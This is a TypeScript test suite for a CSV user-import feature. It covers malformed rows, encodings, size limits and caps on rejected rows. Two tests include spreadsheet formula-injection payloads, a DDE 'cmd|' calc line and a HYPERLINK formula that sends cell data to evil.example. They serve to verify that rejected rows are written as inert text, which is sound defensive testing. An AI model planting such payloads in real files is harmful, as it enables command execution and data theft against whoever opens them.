import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { parse as parseSync } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { db } from "../../db";
import { csvField } from "../../text/csv-field";
import { guessMapping, type ColumnMapping } from "./mapping";
import { importCsv, inspectCsv, MAX_REJECTED_ROWS } from "./run";

const dir = mkdtempSync(path.join(tmpdir(), "hookline-import-"));
function file(name: string, content: string | Buffer) {
  const p = path.join(dir, name);
  writeFileSync(p, content);
  return p;
}

const mapping: ColumnMapping[] = [
  { target: "userId" },
  { target: "email" },
  { target: "timezone" },
  { target: "attribute", name: "plan", type: "string" },
  { target: "attribute", name: "seats", type: "number" },
  { target: "attribute", name: "beta", type: "boolean" },
];

// Every 100th data row is broken, in one of seven ways, each with the reason the report must give.
const malformed: [(i: number) => string, string][] = [
  [(i) => `u${i},not-an-email,UTC,pro,1,true`, '"not-an-email" is not a valid email address'],
  [() => `,x@example.com,UTC,pro,1,true`, "The user id is empty"],
  [(i) => `u${i},x@example.com,UTC,pro,1`, 'The row has 5 values, the header 6 columns: column 6 (beta) has none. Write a "," between values, an empty one too'],
  [(i) => `u${i},x@example.com,UTC,pro,many,true`, 'seats: "many" is not a number'],
  [(i) => `u${i},x@example.com,Mars/Base,pro,1,true`, 'timezone: "Mars/Base" is not an IANA time zone (for example Europe/Paris)'],
  [(i) => `u${i},x@exa"mple.com,UTC,pro,1,true`, 'Column 2 (email): a quote " inside a value that does not start with one. Put the whole value in quotes and double the inner quotes: "x@exa""mple.com"'],
  // every problem of a row at once, so it is fixed in one go
  [(i) => `u${i},nope,Mars/Olympus,pro,lots,true`, '"nope" is not a valid email address; timezone: "Mars/Olympus" is not an IANA time zone (for example Europe/Paris); seats: "lots" is not a number'],
];

describe("CSV import", () => {
  it("imports 100,000 rows with 1% malformed lines and reports exactly which lines and why", async () => {
    const lines = ["userId,email,timezone,plan,seats,beta"];
    const expected: { line: number; reason: string }[] = [];
    for (let i = 0; i < 100_000; i++) {
      if (i % 100 === 50) {
        const [make, reason] = malformed[(i / 100) % malformed.length | 0]!;
        lines.push(make(i));
        expected.push({ line: i + 2, reason });
      } else {
        lines.push(`u${i},user${i}@example.com,Europe/Paris,${i % 3 ? "pro" : "free"},${i % 10},${i % 2 ? "yes" : "no"}`);
      }
    }
    const csv = file("big.csv", lines.join("\n") + "\n");
    const inspection = await inspectCsv(csv);
    expect(inspection.headers).toEqual(["userId", "email", "timezone", "plan", "seats", "beta"]);
    const progress: number[] = [];
    const rejectedFile = path.join(dir, "big.rejected.csv");
    const report = await importCsv(csv, { delimiter: inspection.delimiter, encoding: inspection.encoding, headers: inspection.headers, mapping, rejectedFile, onProgress: (f) => progress.push(f) });
    expect(report).toMatchObject({ rows: 100_000, imported: 99_000, created: 99_000, updated: 0, rejectedCount: 1000 });
    expect(report.rejected).toEqual(expected);
    expect(await db().user.count()).toBe(99_000);
    const sample = await db().user.findUniqueOrThrow({ where: { id: "u7" } });
    expect(sample).toMatchObject({ email: "user7@example.com", timezone: "Europe/Paris", attributes: { plan: "pro", seats: 7, beta: true } });
    expect(progress.at(-1)).toBe(1);
    expect(progress.length).toBeGreaterThan(50);
    const rejected = readFileSync(rejectedFile, "utf8").trim().split("\n");
    expect(rejected).toHaveLength(1001);
    expect(rejected[0]).toBe("line,reason,row");
    expect(rejected[1]).toBe(`52,"""not-an-email"" is not a valid email address","u50,not-an-email,UTC,pro,1,true"`);
  }, 240_000);

  it("updates users already there and merges attributes", async () => {
    const csv = file("update.csv", "id,plan,score\nu1,team,\nnew-1,free,3.5\n");
    const inspection = await inspectCsv(csv);
    const map = guessMapping(inspection.headers);
    expect(map).toEqual([{ target: "userId" }, { target: "attribute", name: "plan", type: "string" }, { target: "attribute", name: "score", type: "string" }]);
    map[2] = { target: "attribute", name: "score", type: "number" };
    const report = await importCsv(csv, { ...inspection, mapping: map });
    expect(report).toMatchObject({ imported: 2, created: 1, updated: 1, rejectedCount: 0 });
    expect((await db().user.findUniqueOrThrow({ where: { id: "u1" } })).attributes).toEqual({ plan: "team", seats: 1, beta: true });
    expect((await db().user.findUniqueOrThrow({ where: { id: "new-1" } })).attributes).toEqual({ plan: "free", score: 3.5 });
  });

  it("rejects the rows of a user whose attributes, with what the user holds, would be over 256 KiB, and imports the others", async () => {
    // each row is ~200 KB of attributes (within a row's limit); the user already holds the a columns
    const header = ["id", ...Array.from({ length: 20 }, (_, i) => `a${i}`), ...Array.from({ length: 20 }, (_, i) => `b${i}`)];
    const row = (id: string, part: "a" | "b" | "none") => [id, ...Array.from({ length: 40 }, (_, i) => ((i < 20 ? "a" : "b") === part ? "x".repeat(10_000) : ""))].join(",");
    const csv = file("grow.csv", [header.join(","), row("grow-1", "a"), row("small-1", "none"), row("grow-1", "b"), row("grow-2", "b")].join("\n") + "\n");
    const inspection = await inspectCsv(csv);
    const map = guessMapping(inspection.headers);
    await db().user.create({ data: { id: "grow-2", attributes: Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`a${i}`, "y".repeat(10_000)])) } });
    const report = await importCsv(csv, { ...inspection, mapping: map });
    expect(report).toMatchObject({ rows: 4, imported: 1, rejectedCount: 3 });
    expect(report.rejected.map((r) => r.line)).toEqual([2, 4, 5]);
    for (const r of report.rejected) expect(r.reason).toMatch(/^A user's attributes can be at most 256 KiB as JSON; with what the user holds these would make \d+ KiB/);
    expect(await db().user.findUnique({ where: { id: "grow-1" } })).toBeNull();
    expect(Buffer.byteLength(JSON.stringify((await db().user.findUniqueOrThrow({ where: { id: "grow-2" } })).attributes))).toBeLessThan(256 * 1024);
    expect(await db().user.findUnique({ where: { id: "small-1" } })).not.toBeNull();
  });

  it("reads a BOM, semicolons and Latin-1", async () => {
    const bom = await inspectCsv(file("bom.csv", "\ufeffuserId;city\nb1;Paris\n"));
    expect(bom).toMatchObject({ encoding: "utf-8", delimiter: ";", headers: ["userId", "city"], sample: [["b1", "Paris"]] });
    const latin = file("latin.csv", Buffer.from("userId\tcity\nl1\tSão Paulo\nl2\tZürich\n", "latin1"));
    const inspection = await inspectCsv(latin);
    expect(inspection).toMatchObject({ encoding: "latin1", delimiter: "\t" });
    expect(inspection.sample[0]).toEqual(["l1", "São Paulo"]);
    await importCsv(latin, { ...inspection, mapping: guessMapping(inspection.headers) });
    expect((await db().user.findUniqueOrThrow({ where: { id: "l2" } })).attributes).toEqual({ city: "Zürich" });
  });

  it("writes rejected rows that a spreadsheet opens as text, never as formulas", async () => {
    const csv = file("formulas.csv", "userId,email\n=1+1*cmd|' /C calc'!A0,not-an-email\n@SUM(1+9),bad\n-2+3,=x\n");
    const inspection = await inspectCsv(csv);
    const rejectedFile = path.join(dir, "formulas.rejected.csv");
    const report = await importCsv(csv, { ...inspection, mapping: [{ target: "userId" }, { target: "email" }], rejectedFile });
    expect(report.rejectedCount).toBe(3);
    expect(readFileSync(rejectedFile, "utf8").split("\n")).toEqual([
      "line,reason,row",
      `2,"""not-an-email"" is not a valid email address","'=1+1*cmd|' /C calc'!A0,not-an-email"`,
      `3,"""bad"" is not a valid email address","'@SUM(1+9),bad"`,
      `4,"""=x"" is not a valid email address","'-2+3,=x"`,
      "",
    ]);
  });

  it("rejects a malformed line once, however many bad quotes it holds, and writes its whole source lines", async () => {
    const lines = [
      "userId,email",
      "q1,q1@example.com",
      'q2,=HYPERLINK("http://evil.example/?"&A1;"click")', // four bad quotes, one row
      'q3,x@exa"mple.com',
      'q4,a"b', // the same line twice is two rows
      'q4,a"b',
      'q5,"two', // a quote left open takes the lines after it into the same row, up to the quote that ends it
      'lines"x,y',
      "q6,q6@example.com", // read strictly, a closing quote followed by a letter kept the quote open: this line was q5's too
    ];
    const csv = file("quotes.csv", lines.join("\n") + "\n");
    const inspection = await inspectCsv(csv);
    const rejectedFile = path.join(dir, "quotes.rejected.csv");
    const report = await importCsv(csv, { ...inspection, mapping: [{ target: "userId" }, { target: "email" }], rejectedFile });
    const opening = expect.stringMatching(/^Column 2 \(email\): a quote " inside a value that does not start with one\. Put the whole value in quotes and double the inner quotes: "/);
    expect(report).toMatchObject({ rows: 7, imported: 2, rejectedCount: 5 });
    expect(report.rejected).toEqual([
      { line: 3, reason: opening },
      { line: 4, reason: opening },
      { line: 5, reason: opening },
      { line: 6, reason: opening },
      { line: 8, reason: 'Column 2 (email): the value starts with a quote, so a quote inside it reads as its end, yet "x" follows it. Double each quote inside a quoted value ("a ""quoted"" word"), or end the value at that quote' },
    ]);
    const written = parseSync(readFileSync(rejectedFile, "utf8"), { from_line: 2 }) as string[][];
    expect(written.map(([, , row]) => row)).toEqual([lines[2], lines[3], lines[4], lines[5], lines.slice(6, 8).join("\n")]);
  });

  // A 50 MB file of two-byte rows that all fail held 26 million rejected rows in memory (over 3 GB):
  // the server died. Past MAX_REJECTED_ROWS the import stops, keeps what it read and says where.
  it("stops once more than MAX_REJECTED_ROWS rows are rejected (wrong column count), keeping the rows before and saying where", async () => {
    const lines = ["userId,plan", "capfirst,pro", ...Array.from({ length: MAX_REJECTED_ROWS + 50 }, () => "x"), "caplast,pro"];
    const csv = file("rejected-flood.csv", lines.join("\n") + "\n");
    const inspection = await inspectCsv(csv);
    const rejectedFile = path.join(dir, "rejected-flood.rejected.csv");
    const report = await importCsv(csv, { ...inspection, mapping: [{ target: "userId" }, { target: "attribute", name: "plan", type: "string" }], rejectedFile });
    const lastKept = 2 + MAX_REJECTED_ROWS;
    expect(report).toMatchObject({ rows: 1 + MAX_REJECTED_ROWS, imported: 1, rejectedCount: MAX_REJECTED_ROWS });
    expect(report.stopped).toBe(
      `More than ${MAX_REJECTED_ROWS.toLocaleString("en-US")} rows were rejected, so the import stopped after line ${lastKept.toLocaleString("en-US")}: the lines after it were not read. Check the column mapping and the file, then import it again (users already imported are updated, not duplicated).`,
    );
    const reason = 'The row has 1 value, the header 2 columns: column 2 (plan) has none. Write a "," between values, an empty one too';
    expect(report.rejected[0]).toEqual({ line: 3, reason });
    expect(report.rejected.at(-1)).toEqual({ line: 10_002, reason });
    const written = readFileSync(rejectedFile, "utf8").trim().split("\n");
    expect(written).toHaveLength(1 + MAX_REJECTED_ROWS);
    expect(written.at(-1)).toBe(`${lastKept},${csvField(reason)},x`);
    expect(await db().user.findUnique({ where: { id: "capfirst" } })).not.toBeNull();
    expect(await db().user.findUnique({ where: { id: "caplast" } })).toBeNull();
    await db().user.deleteMany({ where: { id: "capfirst" } });
  }, 120_000);

  it("stops the same way when the rows rejected are lines csv-parse cannot read (bad quotes)", async () => {
    const lines = ["userId,email", ...Array.from({ length: MAX_REJECTED_ROWS + 50 }, (_, i) => `q${i},a"b`), "quotelast,quotelast@example.com"];
    const csv = file("malformed-flood.csv", lines.join("\n") + "\n");
    const inspection = await inspectCsv(csv);
    const rejectedFile = path.join(dir, "malformed-flood.rejected.csv");
    const report = await importCsv(csv, { ...inspection, mapping: [{ target: "userId" }, { target: "email" }], rejectedFile });
    expect(report).toMatchObject({ rows: MAX_REJECTED_ROWS, imported: 0, rejectedCount: MAX_REJECTED_ROWS });
    expect(report.stopped).toMatch(`so the import stopped after line ${(1 + MAX_REJECTED_ROWS).toLocaleString("en-US")}:`);
    const written = parseSync(readFileSync(rejectedFile, "utf8"), { from_line: 2 }) as string[][];
    expect(written).toHaveLength(MAX_REJECTED_ROWS);
    expect(written.at(-1)).toEqual([String(1 + MAX_REJECTED_ROWS), `Column 2 (email): a quote " inside a value that does not start with one. Put the whole value in quotes and double the inner quotes: "a""b"`, `q${MAX_REJECTED_ROWS - 1},a"b`]);
    expect(await db().user.findUnique({ where: { id: "quotelast" } })).toBeNull();
  }, 120_000);

  it("refuses empty, binary and 10,000-column files with a clear message, importing nothing", async () => {
    const before = await db().user.count();
    await expect(inspectCsv(file("empty.csv", ""))).rejects.toThrow("The file is empty.");
    await expect(inspectCsv(file("bin.csv", Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00])))).rejects.toThrow(/binary/);
    // a real PNG (its header) and a real zip (a local file header) renamed .csv: refused up front, no row read
    await expect(inspectCsv(file("photo.csv", Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==", "base64")))).rejects.toThrow("This does not look like a CSV text file (it contains binary data).");
    await expect(inspectCsv(file("archive.csv", Buffer.concat([Buffer.from("504b03041400000008000000000000000000000000000000000005000000", "hex"), Buffer.from("a.txt")])))).rejects.toThrow(/binary/);
    // Excel's "Unicode Text" (UTF-16 LE with its mark) is text, said so, with what to do
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("id,email\nu1,a@example.com\n", "utf16le")]);
    await expect(inspectCsv(file("unicode.csv", utf16))).rejects.toThrow('This file is UTF-16 text; save it as "CSV UTF-8" and upload it again.');
    const wide = Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(",");
    await expect(inspectCsv(file("wide.csv", `${wide}\n${wide}\n`))).rejects.toThrow("The file has 10,000 columns; at most 1,000 can be imported.");
    expect(await db().user.count()).toBe(before);
  });

  it("rejects a row whose cell holds a NUL byte past the first 2 MB (inspected for binary data) and imports the rest", async () => {
    const lines = ["userId,email,timezone,plan,seats,beta"];
    for (let i = 0, size = 0; size < 2.2 * 1024 * 1024; i++) size += lines[lines.push(`nul${i},nul${i}@example.com,UTC,pro,1,true`) - 1]!.length + 1;
    const at = lines.length + 1;
    lines.push("nulbad,bad@example.com,UTC,p\u0000ro,1,true", "nullast,last@example.com,UTC,pro,1,true");
    const csv = file("late-nul.csv", lines.join("\n") + "\n");
    const inspection = await inspectCsv(csv);
    const report = await importCsv(csv, { ...inspection, mapping });
    expect(report.rejected).toEqual([{ line: at, reason: "Column 4 (plan) holds the NUL character (U+0000), which cannot be stored" }]);
    expect(report.imported).toBe(lines.length - 2);
    expect(await db().user.count({ where: { id: { in: ["nulbad", "nullast"] } } })).toBe(1);
    // the other tests count every user
    await db().user.deleteMany({ where: { id: { startsWith: "nul" } } });
  });
});
